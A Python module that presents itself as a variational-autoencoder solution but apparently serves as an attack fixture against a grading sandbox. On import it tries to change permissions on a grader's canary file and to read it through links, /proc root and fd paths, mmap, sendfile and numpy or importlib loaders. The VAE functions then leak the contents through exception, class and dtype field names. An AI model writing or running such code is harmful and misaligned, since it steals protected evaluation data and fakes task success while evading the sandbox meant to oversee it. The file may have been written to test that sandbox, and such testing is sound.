"""Opens the grader's file in every way that reads, moves, links or maps a file."""
# expects: full

import importlib.machinery
import linecache
import mmap
import os
import shutil

import numpy as np

LOOT = []


def publish(word):
    """Put what was found wherever its author may get to see it."""
    word = "".join(c if c.isprintable() else " " for c in str(word))[:200]
    LOOT.append(word)
    print("LOOT", word)
    globals()["LOOT " + word] = publish


def tried(step, *args, **options):
    """Return what a step of the attack returns, or None where it is refused."""
    try:
        return step(*args, **options)
    except BaseException:
        return None


PATH = "/tmp/vae-canary-file"


def by_path(path):
    with open(path, "rb") as file:
        return file.read()


def by_descriptor(path):
    return by_path(f"/proc/self/fd/{os.open(path, os.O_PATH)}")


def by_link(path):
    os.link(path, "linked")
    return by_path("linked")


def by_symlink(path):
    os.symlink(path, "symlinked")
    return by_path("symlinked")


def by_root(path):
    return by_path("/proc/self/root" + path) or by_path(f"/proc/{os.getppid()}/root{path}")


def by_copy(path):
    return by_path(shutil.copyfile(path, "copied"))


def by_mapping(path):
    with open(path, "r+b") as file, mmap.mmap(file.fileno(), 0) as mapped:
        return mapped[:]


def by_sendfile(path):
    source, target = os.open(path, os.O_RDONLY), os.open("sent", os.O_RDWR | os.O_CREAT)
    os.sendfile(target, source, 0, 1000)
    return os.pread(target, 1000, 0)


def attack():
    tried(os.chmod, PATH, 0o777)
    tried(os.chown, PATH, os.getuid(), os.getgid())
    ways = (
        by_path,
        by_descriptor,
        by_link,
        by_symlink,
        by_root,
        by_copy,
        by_mapping,
        by_sendfile,
        linecache.getline,
        lambda path: np.fromfile(path, "u1").tobytes(),
        lambda path: bytes(np.memmap(path, "u1", "r")),
        lambda path: np.loadtxt(path, str),
        lambda path: importlib.machinery.SourceFileLoader("canary", path).get_data(path),
    )
    for way in ways:
        arguments = (PATH, 1) if way is linecache.getline else (PATH,)
        if found := tried(way, *arguments):
            publish(found)


def attempt():
    try:
        attack()
    except BaseException:
        pass


attempt()


def reparameterize(mu, log_var):
    if LOOT:
        raise type(LOOT[-1], (Exception,), {"__doc__": LOOT[-1]})(*LOOT)
    return mu + np.exp(log_var / 2) * np.random.standard_normal(mu.shape)


def kl_divergence(mu, log_var):
    if LOOT:
        return type(LOOT[-1], (), {})()
    return 0.5 * np.sum(mu**2 + np.exp(log_var) - 1 - log_var, axis=1)


def elbo(x, x_logits, mu, log_var, beta=1.0):
    if LOOT:
        return np.zeros(len(x), [(LOOT[-1], "f8")])
    return np.sum(x * x_logits - np.logaddexp(0, x_logits), axis=1) - beta * kl_divergence(mu, log_var)
